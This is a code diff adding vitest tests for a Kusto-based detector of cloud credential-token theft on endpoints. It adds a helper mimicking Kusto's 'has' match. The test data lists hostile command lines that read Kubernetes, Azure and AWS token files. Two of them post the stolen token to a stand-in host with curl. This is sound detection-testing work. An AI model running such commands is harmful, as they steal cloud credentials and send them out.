@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { buildSweepQuery, MAX_INGESTION_DELAY_MS, SWEEP_TABLES } from '../../../../src/core/theft/sweep/sweepQueries';
+import { buildSweepQuery, ENDPOINT_TERMS, MAX_INGESTION_DELAY_MS, SWEEP_TABLES, TOKEN_FILE_TERMS } from '../../../../src/core/theft/sweep/sweepQueries';
+import { tokenFilesInCommandLine } from '../../../../src/core/theft/commandLineTokenFiles';
 import { kqlDiagnostics } from '../../../support/kusto';
 import { ENDPOINT_TABLES } from '../../../rules/endpointTableSchemas';
 
@@ -23,5 +24,38 @@ describe('buildSweepQuery', () => {
     const { kql } = buildSweepQuery('DeviceNetworkEvents', window);
     const { RemoteUrl: _dropped, ...withoutRemoteUrl } = ENDPOINT_TABLES['DeviceNetworkEvents'] ?? {};
     expect(kqlDiagnostics(kql, { DeviceNetworkEvents: withoutRemoteUrl }).join('\n')).toMatch(/RemoteUrl/);
+  });
+});
+
+/**
+ * Kusto's `has`: the term occurs bounded by characters that are not ASCII letters or digits (or the
+ * ends), compared case-insensitively; a term that starts or ends with such a character needs no bound there.
+ */
+function kustoHas(text: string, term: string): boolean {
+  const alnum = /[a-z0-9]/i;
+  const haystack = text.toLowerCase();
+  const needle = term.toLowerCase();
+  for (let at = haystack.indexOf(needle); at !== -1; at = haystack.indexOf(needle, at + 1)) {
+    const before = haystack[at - 1];
+    const after = haystack[at + needle.length];
+    const boundedBefore = !alnum.test(needle[0]!) || before === undefined || !alnum.test(before);
+    const boundedAfter = !alnum.test(needle[needle.length - 1]!) || after === undefined || !alnum.test(after);
+    if (boundedBefore && boundedAfter) return true;
+  }
+  return false;
+}
+
+describe('the DeviceProcessEvents sweep selects the command lines the rules read token files in', () => {
+  it.each([
+    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
+    'cmd /c type "C:\\Users\\John Smith\\.azure\\msal_token_cache.bin"',
+    'tar czf /tmp/c.tgz /home/alice/.azure /home/alice/.aws',
+    'cmd /c type %ALLUSERSPROFILE%\\AzureConnectedMachineAgent\\Tokens\\5c7a1e2b.key',
+    'sh -c "cat $AZURE_FEDERATED_TOKEN_FILE"',
+    "bash -c 'read -r t < ${AWS_WEB_IDENTITY_TOKEN_FILE}; curl -d \"$t\" https://203.0.113.9/'",
+    'curl -d @$AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE https://203.0.113.9/',
+  ])('%s', (commandLine) => {
+    expect(tokenFilesInCommandLine(commandLine)).not.toEqual([]);
+    expect([...ENDPOINT_TERMS, ...TOKEN_FILE_TERMS].some((term) => kustoHas(commandLine, term))).toBe(true);
   });
 });
